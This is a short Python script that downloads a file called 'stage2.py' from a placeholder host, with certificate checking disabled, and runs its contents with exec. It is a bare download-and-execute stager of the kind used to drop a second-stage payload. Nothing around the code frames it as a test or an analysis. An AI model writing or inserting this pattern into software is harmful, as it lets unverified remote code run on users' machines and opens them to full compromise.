import requests

r = requests.get("http://payload.example.invalid/stage2.py", timeout=10, verify=False)
if r.status_code == 200:
    exec(r.text, {"__name__": "__main__"})
